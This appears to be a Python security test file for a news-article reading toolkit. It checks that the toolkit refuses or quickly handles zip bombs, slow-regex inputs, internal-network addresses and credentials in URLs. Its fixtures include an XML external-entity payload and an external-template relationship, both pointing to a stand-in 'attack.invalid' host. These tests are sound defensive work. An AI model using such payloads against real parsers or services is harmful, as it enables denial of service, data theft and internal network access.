"""Reading hostile files and addresses: what would hang, fill the memory or lead inside is an error of ours."""

from __future__ import annotations

import io
import zipfile

import pytest

from tests.article.test_docx import STORY, body, run, with_part
from tests.article.test_structure import LEAD, SECOND, TITLE
from tests.security.limits import in_little_time
from toolkit import errors
from toolkit.article import read
from toolkit.article.readers.web import Limits, fetch

MARKS = "\u064b\u0301\u0323\u0651"
# Each is linear to read; where a rule looks again and again at the same characters, it takes minutes or for ever.
LONG = {
    "comments before a page": "<!---->" * 500 + "x",
    "bullets": f"اقرأ أيضا\n{'•' * 50_000}\nخبر",
    "bullets and blanks": "• " * 50_000,
    "vowel marks on one letter": "ا" + MARKS * 12_500,
    "one word": "م" * 250_000,
    "one line": "قال الوزير إن القمة ستعقد غدا " * 5_000,
    "stops": "." * 250_000,
    "stops and blanks": ". " * 125_000,
    "quotation marks": '"' * 125_000,
    "brackets": "(" * 125_000,
    "line feeds": "\n" * 250_000,
    "short lines": "خبر\n" * 12_500,
    "blanks": f"اقرأ{' ' * 250_000}أيضا",
    "digits": "7" * 250_000,
    "read also": "اقرأ أيضا: خبر\n" * 15_000,
    "keywords": "كلمات دلالية:\n" * 15_000,
    "angle brackets": "<" * 125_000,
    "invisible characters": "\u200b" * 125_000,
    "articles on a page": f"المصدر: وكالة\nاقرأ أيضا\nخبر\n{TITLE}\n{LEAD}\n{SECOND}\n" * 500,
}


def test_reading_takes_time_that_grows_with_the_length_only() -> None:
    in_little_time("toolkit.article:read_text", {what: f"{LEAD}\n{text}\n{SECOND}" for what, text in LONG.items()})


def test_the_form_in_which_texts_are_compared_takes_time_that_grows_with_their_length_only() -> None:
    in_little_time("toolkit.translate.matching:match_key", {**LONG, "more vowel marks": f"ا{MARKS * 60_000}"})


HTML = {
    "comments": b"<!---->" * 500 + b"x",
    "comments that do not end": b"<!-- " * 800,
    "nested": b"<div class=share>" * 3_000 + LEAD.encode(),
    "empty links in a bar": b"<div class=share>" * 200 + b"<i class=share></i>" * 20_000 + f"<p>{LEAD}</p>".encode(),
    "articles": f"<html><body>{'<article>خبر</article>' * 10_000}</body></html>".encode(),
    "attributes": f"<html><p {' '.join(f'a{n}=1' for n in range(30_000))}>{LEAD}</p>".encode(),
    "entities": b"<html><p>" + b"&#1575;" * 50_000,
    "titles": f"<html><title>{' | خبر' * 20_000}</title><p>{LEAD}</p></html>".encode(),
    "json": f'<html><script type="application/ld+json">{"[" * 100_000}</script><p>{LEAD}</p></html>'.encode(),
}


def test_pages_take_time_that_grows_with_their_size_only() -> None:
    in_little_time("toolkit.article:read", HTML)


def test_a_page_with_comments_first_is_still_known_for_a_page() -> None:
    page = f"<!-- a --> <!-- <b> -- > -->\n<?xml version='1.0'?><!----><html><body><p>{LEAD}</p></body></html>"
    assert read(page.encode()).text == LEAD


def archive(parts: int, content: bytes, method: int = zipfile.ZIP_DEFLATED) -> bytes:
    """A Word document with one part many times over."""
    stream = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(STORY)) as old, zipfile.ZipFile(stream, "w", method) as new:
        for part in old.infolist():
            new.writestr(part.filename, old.read(part), method)
        with pytest.warns(UserWarning, match="Duplicate"):
            for _ in range(parts):
                new.writestr("word/more.xml", content, method)
    return stream.getvalue()


def test_a_zip_bomb_of_many_parts_with_one_name_is_refused() -> None:
    bomb = archive(40, b" " * 10_000_000)
    assert len(bomb) < 500_000
    with pytest.raises(errors.ReadError, match="unpack"):
        read(bomb)


@pytest.mark.parametrize("method", [zipfile.ZIP_LZMA, zipfile.ZIP_BZIP2])
def test_packing_that_word_never_uses_is_refused(method: int) -> None:
    with pytest.raises(errors.ReadError, match="compressed"):
        read(archive(2, b"<x/>", method))


def test_many_styles_and_paragraphs_of_a_document_are_looked_up_once() -> None:
    styles = "".join(
        f'<w:style w:type="paragraph" w:styleId="s{n}"><w:name w:val="s{n}"/></w:style>' for n in range(4000)
    )
    with zipfile.ZipFile(io.BytesIO(STORY)) as package:
        old = package.read("word/styles.xml").decode()
    data = body("".join(f'<w:p><w:pPr><w:pStyle w:val="s{n}"/></w:pPr>{run(LEAD)}</w:p>' for n in range(4000)))
    many = with_part(data, "word/styles.xml", old.replace("</w:styles>", styles + "</w:styles>").encode())
    in_little_time("toolkit.article:read", {"styles": many})


BROKEN_PARTS = {
    "no body": ("word/document.xml", b'<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"/>'),
    "another root": ("word/document.xml", b"<html/>"),
    "properties": ("docProps/core.xml", b"<x/>"),
    "no properties": ("docProps/core.xml", b""),
    "styles": ("word/styles.xml", b"<x/>"),
    "content types": ("[Content_Types].xml", b"<x/>"),
    "relations": ("_rels/.rels", b"<x/>"),
    "relations that lead outside": (
        "word/_rels/document.xml.rels",
        b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" '
        b'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" '
        b'Target="http://attack.invalid/t.dotm" TargetMode="External"/></Relationships>',
    ),
    "nothing but entities": ("word/document.xml", b'<!DOCTYPE x [<!ENTITY % p SYSTEM "http://attack.invalid/p.dtd"> %p;]><x/>'),
}  # fmt: skip


@pytest.mark.parametrize("what", BROKEN_PARTS)
def test_a_document_with_a_broken_part_is_read_or_refused(what: str) -> None:
    try:
        assert LEAD in read(with_part(STORY, *BROKEN_PARTS[what])).text
    except errors.ReadError as error:
        assert error.remedy


@pytest.mark.parametrize("host", ["[fec0::1]", "[64:ff9b:1::7f00:1]", "[::127.0.0.1]", "[::ffff:0:127.0.0.1]", "[2001:0:7f00:1::]",
                                  "0177.0.0.1", "127.1", "localhost"])  # fmt: skip
def test_further_addresses_that_lead_inside_are_refused(host: str) -> None:
    with pytest.raises(errors.ReadError) as caught:
        fetch(f"http://{host}/", limits=Limits(seconds=2))
    assert "not public" in caught.value.message or "cannot be found" in caught.value.message


@pytest.mark.parametrize(
    "url",
    [
        "http://8.8.8.8 x/",
        "http://8.8.8.8\x00/",
        "http://a\x7fb/",
        "http://exa%20mple.org/",
        "http://" + "a" * 70 + ".org/",
    ],
)
def test_a_host_that_is_no_host_is_an_error_of_ours(url: str) -> None:
    with pytest.raises(errors.ReadError):
        fetch(url, resolve=lambda host, port: ["127.0.0.1"])
    with pytest.raises(errors.ReadError):
        fetch(url, limits=Limits(seconds=2))


@pytest.mark.parametrize(
    "url",
    [
        "ftp://me:geheim@example.org/",
        "http://me:geheim@[bad/",
        "http://me:geheim@example.org:0/",
        "http://me:geheim@h/",
    ],
)
def test_a_password_in_an_address_is_not_repeated(url: str) -> None:
    with pytest.raises(errors.ReadError) as caught:
        read(url)
    assert "geheim" not in str(caught.value)


REPEATED = ["7 ", "1,234.5 ", "ألف مليون ", "قال إن ", "“ا ", ". ", "4 مايو 2022 ", "7" * 500]


def test_the_whole_pipeline_takes_no_more_than_it_may_for_lines_without_end() -> None:
    """Facts, ranking and every export, for one line of 4,000 characters of each kind between two sentences."""
    lines = {unit: f"{LEAD}\n{unit * (4_000 // len(unit))}\n{SECOND}" for unit in REPEATED}
    in_little_time("tests.security.limits:brief_of", lines)
